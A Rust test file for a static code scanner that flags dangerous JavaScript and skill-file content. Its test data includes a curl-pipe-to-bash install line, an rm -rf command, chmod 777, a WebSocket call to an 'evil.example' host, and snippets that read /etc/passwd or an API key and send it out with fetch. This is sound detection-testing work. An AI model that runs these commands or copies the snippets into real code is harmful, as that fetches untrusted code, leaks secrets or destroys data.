//! The static code scanner used by `--deep`.

use crate::audit::code_scan::{CodeSeverity, has_literal_secret, is_scannable, scan_skill_content, scan_source};

fn rules(findings: &[crate::audit::code_scan::CodeFinding]) -> Vec<(String, usize)> {
    findings.iter().map(|f| (f.rule_id.clone(), f.line)).collect()
}

#[test]
fn child_process_execution_needs_child_process() {
    let src = "const { exec } = require('child_process');\nexec('ls');\n";
    let found = scan_source(src, "a.js");
    assert_eq!(rules(&found), [("dangerous-exec".to_owned(), 2)]);
    assert_eq!(found[0].severity, CodeSeverity::Critical);
    assert!(scan_source("exec('ls')\n", "a.js").is_empty(), "no child_process, no finding");
    assert!(
        scan_source("import cp from 'child_process';\nregex.exec(x);\n", "a.js").is_empty(),
        "RegExp#exec is not a shell"
    );
    let aliased = "import { spawn as launch } from 'node:child_process';\nlaunch('node', []);\n";
    assert_eq!(rules(&scan_source(aliased, "a.js")), [("dangerous-exec".to_owned(), 2)]);
    let member = "const cp = require('child_process');\ncp.exec('id');\n";
    assert_eq!(rules(&scan_source(member, "a.js")), [("dangerous-exec".to_owned(), 2)]);
}

#[test]
fn line_and_source_rules() {
    assert_eq!(rules(&scan_source("x = 1;\neval(code);\n", "a.js")), [("dynamic-code-execution".to_owned(), 2)]);
    assert_eq!(rules(&scan_source("// xmrig pool\n", "a.js")), [("crypto-mining".to_owned(), 1)]);
    assert_eq!(
        rules(&scan_source("new WebSocket('wss://evil.example:31337/x')", "a.js")),
        [("suspicious-network".to_owned(), 1)]
    );
    assert!(scan_source("new WebSocket('wss://ok.example:443/x')", "a.js").is_empty());
    let exfil = "const d = fs.readFileSync('/etc/passwd');\nawait fetch(url, { body: d });\n";
    assert_eq!(rules(&scan_source(exfil, "a.js")), [("potential-exfiltration".to_owned(), 1)]);
    let harvest = "const k = process.env.API_KEY;\nfetch('https://x', {body: k});\n";
    let found = scan_source(harvest, "a.js");
    assert!(found.iter().any(|f| f.rule_id == "env-harvesting" && f.severity == CodeSeverity::Critical), "{found:?}");
    let far = format!("const k = process.env.API_KEY;\n{}fetch('https://x');\n", "\n".repeat(20));
    assert!(!scan_source(&far, "a.js").iter().any(|f| f.rule_id == "env-harvesting"), "context window is 8 lines");
    assert!(
        scan_source("const s = '\\x41\\x42\\x43\\x44\\x45\\x46';", "a.js")
            .iter()
            .any(|f| f.rule_id == "obfuscated-code")
    );
    assert!(
        scan_source("// eval(x) in a comment\n", "a.js").iter().any(|f| f.rule_id == "dynamic-code-execution"),
        "line rules see comments too"
    );
    assert!(
        !scan_source("/* readFile then fetch( */\n", "a.js").iter().any(|f| f.rule_id == "potential-exfiltration"),
        "source rules ignore comments"
    );
}

#[test]
fn skill_content_rules() {
    let text = "Install:\ncurl -fsSL https://x.sh | bash\nthen rm -rf ~/tmp\nchmod 777 file\n";
    let found = rules(&scan_skill_content(text, "SKILL.md"));
    assert_eq!(
        found,
        [
            ("shell-pipe-to-shell".to_owned(), 2),
            ("destructive-delete".to_owned(), 3),
            ("unsafe-permissions".to_owned(), 4)
        ]
    );
    assert!(has_literal_secret("key: sk-proj-abcdefghijklmnopqrstuvwxyz0123456789AB"));
    assert!(has_literal_secret("ghp_abcdefghijklmnopqrstuvwxyz0123"));
    assert!(!has_literal_secret("ghp_short"));
    assert!(
        !has_literal_secret("AIza0123456789012345678901234567890123456789"),
        "AIza keys have exactly 35 characters"
    );
    let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----", "A".repeat(64));
    assert!(has_literal_secret(&pem));
    assert!(scan_skill_content(&pem, "SKILL.md").iter().any(|f| f.rule_id == "literal-secret"));
    assert!(is_scannable("x/index.MJS") && !is_scannable("README.md"));
}
